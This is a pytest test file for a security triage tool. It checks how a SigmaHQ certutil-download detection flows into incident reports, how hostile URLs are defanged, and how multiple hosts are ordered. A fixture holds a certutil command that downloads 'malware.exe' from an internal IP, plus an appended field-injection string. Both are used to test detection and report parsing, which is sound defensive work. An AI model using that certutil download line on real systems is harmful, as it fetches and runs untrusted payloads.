"""From triage to the report: a SigmaHQ match's key fields, first moment and hosts travel as data
(``params.fields``, ``first``, ``hosts``), so a command line that names a key field itself ("…; Image=…")
stays one field in the report's step, and a rule that matched on two hosts names both. A reason stored by
an older Garrison (``detail`` only) is still told, split where a key field's name starts.

The events are a real Sysmon capture from SigmaHQ's regression data (certutil downloading from an IP
address), its command line lengthened with hostile text."""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from flows.models import Alert, Reason, Verdict, VerdictLabel
from flows.notify import incident_context, render_channel
from flows.notify._sequence import telemetry_steps
from flows.store import Store
from flows.tenants import NotifyTarget, Tenant
from flows.triage import MemoryTelemetry, TriageResult, triage
from flows.triage._offline import read_events

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
CERTUTIL = (
    FIXTURES / "sigma" / "regression_data" / "rules" / "windows" / "process_creation"
    / "proc_creation_win_certutil_download_direct_ip" / "13e6fe51-d478-4c7e-b0f2-6da9b400a829.json"
)  # fmt: skip
RULE = "13e6fe51-d478-4c7e-b0f2-6da9b400a829"
HOST, OTHER = "ar-win-dc.attackrange.local", "ar-win-2.attackrange.local"
COMMAND = r"certutil.exe  -urlcache -f http://10.0.1.14/malware.exe m.exe; Image=C:\x.exe"
TOLD = r"certutil.exe -urlcache -f hxxp://10[.]0[.]1[.]14/malware[.]exe m.exe; Image=C:\x.exe"
TENANT = Tenant(id="demo", name="Demo Customer Ltd.", notify=[NotifyTarget(url="outbox://demo")])


def _event(host: str, at: str) -> dict[str, Any]:
    event = copy.deepcopy(json.loads(CERTUTIL.read_text(encoding="utf-8")))
    event["Event"]["System"]["Computer"] = host
    event["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"] = at
    event["Event"]["EventData"]["CommandLine"] = COMMAND
    return event


def _alert(host: str, uid: str) -> dict[str, Any]:
    return {
        "class_uid": 2004,
        "severity_id": 3,
        "time": int(datetime(2025, 10, 25, 17, 5, tzinfo=UTC).timestamp() * 1000),
        "metadata": {"tenant_uid": "demo", "product": {"name": "Some EDR"}, "uid": uid},
        "finding_info": {"uid": uid, "title": f"Suspicious activity on {host}"},
        "device": {"hostname": host},
    }


def _triage(tmp_path: Path, documents: list[dict[str, Any]], events: list[dict[str, Any]]) -> TriageResult:
    path = tmp_path / "events.ndjson"
    path.write_text("".join(json.dumps(e) + "\n" for e in events), encoding="utf-8")
    alerts = [Alert.model_validate(d) for d in documents]
    telemetry = MemoryTelemetry(read_events(path, "demo").rows)
    return triage(alerts, [], TENANT.policy, telemetry, datetime(2025, 10, 25, 18, tzinfo=UTC))


def _stored(store: Store, document: dict[str, Any], reasons: list[Reason]) -> tuple[Any, list[Alert]]:
    alerts = [Alert.model_validate(document)]
    incident_id = store.record_alert(alerts[0], document).incident_id
    store.set_verdict(incident_id, Verdict(verdict=VerdictLabel.MALICIOUS, score=80, reasons=reasons))
    view = store.incident(incident_id)
    assert view is not None
    return view, alerts


def _certutil(result: TriageResult) -> Reason:
    [reason] = [r for r in result.verdict.reasons if r.params.get("rule") == RULE]
    return reason


def test_a_command_line_naming_a_key_field_is_one_field_in_the_report_step(
    tmp_path: Path, store: Store
) -> None:
    documents = [_alert(HOST, "a-1")]
    result = _triage(tmp_path, documents, [_event(HOST, "2025-10-25T17:01:06.116Z")])
    reason = _certutil(result)

    assert reason.code == "sigma"
    assert reason.params["fields"] == [
        r"Image=C:\Windows\System32\certutil.exe",
        f"CommandLine={TOLD}",
        r"ParentImage=C:\Windows\System32\cmd.exe",
    ]
    assert reason.params["first"] == "2025-10-25T17:01:06.116000+00:00"
    assert reason.params["hosts"] == [HOST]
    # What the reason says is worded as before: the fields joined in ``detail``.
    assert reason.params["detail"] == "; ".join(reason.params["fields"])  # type: ignore[arg-type]

    view, alerts = _stored(store, documents[0], result.verdict.reasons)
    [step] = [s for s in telemetry_steps(view)[0] if RULE in [r.id for r in s.rules]]
    assert step.fields == {
        "Image": r"C:\Windows\System32\certutil.exe",
        "CommandLine": TOLD,
        "ParentImage": r"C:\Windows\System32\cmd.exe",
    }
    assert step.at == datetime(2025, 10, 25, 17, 1, 6, 116000, tzinfo=UTC)
    context = incident_context(view, TENANT, language="en", alerts=alerts)
    [told] = [s for s in context["sequence"] if RULE in s["rules"]]  # with the medium rule on it
    assert told["what"] == f"cmd.exe started certutil.exe: {TOLD}"
    body = render_channel("incident_report", "text", "en", context).body
    assert f"cmd.exe started certutil.exe: {TOLD}" in body and "http://" not in body


def test_a_reason_of_an_older_garrison_is_still_told_from_its_detail(tmp_path: Path, store: Store) -> None:
    documents = [_alert(HOST, "a-1")]
    reason = _certutil(_triage(tmp_path, documents, [_event(HOST, "2025-10-25T17:01:06.116Z")]))
    older = reason.model_copy(
        update={"params": {k: v for k, v in reason.params.items() if k not in ("fields", "first", "hosts")}}
    )

    view, alerts = _stored(store, documents[0], [older])

    [step] = telemetry_steps(view)[0]
    assert step.host == HOST and step.hosts == (HOST,)
    assert step.at == datetime(2025, 10, 25, 17, 1, 6, tzinfo=UTC)  # ``when``: to the second
    # ``detail`` can only be split where a key field's name starts: the command line's own "; Image="
    # ends it there, and the event's real Image stands.
    assert step.fields["CommandLine"] == TOLD.removesuffix(r"; Image=C:\x.exe")
    assert step.fields["Image"] == r"C:\Windows\System32\certutil.exe"
    context = incident_context(view, TENANT, language="en", alerts=alerts)
    assert context["sequence"][0]["what"].startswith("cmd.exe started certutil.exe: certutil.exe -urlcache")


def test_a_rule_that_matched_on_two_hosts_names_both_the_first_events_host_first(
    tmp_path: Path, store: Store
) -> None:
    documents = [_alert(HOST, "a-1"), _alert(OTHER, "a-2")]
    # ar-win-2 sorts first, but the first matched event is on ar-win-dc.
    events = [_event(OTHER, "2025-10-25T17:02:00.5Z"), _event(HOST, "2025-10-25T17:01:06.116Z")]
    reason = _certutil(_triage(tmp_path, documents, events))

    assert reason.params["count"] == 2
    assert reason.params["host"] == HOST and reason.params["hosts"] == [HOST, OTHER]
    assert reason.params["first"] == "2025-10-25T17:01:06.116000+00:00"
    assert f"on {HOST}, first at 2025-10-25 17:01:06 UTC" in reason.finding

    view, _ = _stored(store, documents[0], [reason])
    [step] = telemetry_steps(view)[0]
    assert step.host == HOST and step.hosts == (HOST, OTHER)


@pytest.mark.parametrize(
    ("fields", "told"),
    [
        (["CommandLine=a; Image=b", "Image=C:\\y.exe"], {"CommandLine": "a; Image=b", "Image": "C:\\y.exe"}),
        (["NotAField=1", "no equals sign", 7, "Image=first", "Image=second"], {"Image": "first"}),
        ([], {}),  # a match on an event without key fields: nothing to split, ``detail`` is not read
    ],
)
def test_stored_fields_are_read_as_data_and_anything_else_is_left_out(
    store: Store, fields: list[Any], told: dict[str, str]
) -> None:
    reason = {
        "question": "Which attack techniques does it show?",
        "finding": "SigmaHQ rule matched",
        "effect": 0,
        "code": "sigma",
        "params": {
            "title": "T",
            "rule": "r-1",
            "level": "high",
            "host": "WS-1",
            "when": "2026-11-10 08:00:00 UTC",
            "detail": "Image=C:\\from-detail.exe",
            "fields": fields,
            "first": "not a time",
            "hosts": ["WS-1", 5, ""],
        },
    }
    view, _ = _stored(store, _alert("WS-1", "a-1"), [])
    view = view.model_copy(update={"reasons": [reason]})  # as any stored row may hold it

    [step] = telemetry_steps(view)[0]

    assert step.fields == told
    assert step.hosts == ("WS-1",)
    assert step.at == datetime(2026, 11, 10, 8, 0, tzinfo=UTC)  # an unreadable ``first``: ``when``
